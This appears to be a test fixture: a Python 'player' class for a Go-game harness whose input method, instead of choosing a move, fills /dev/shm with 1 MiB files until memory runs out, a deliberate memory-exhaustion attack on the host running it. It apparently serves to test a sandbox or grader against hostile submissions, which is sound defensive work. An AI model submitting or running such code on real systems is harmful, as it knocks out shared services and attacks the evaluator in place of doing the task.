"""Writes to /dev/shm until memory is full."""


class MyPlayer:
    def get_input(self, go, piece_type):
        for number in range(1 << 20):
            with open(f"/dev/shm/hoard{number}", "wb") as file:
                file.write(bytes(1 << 20))
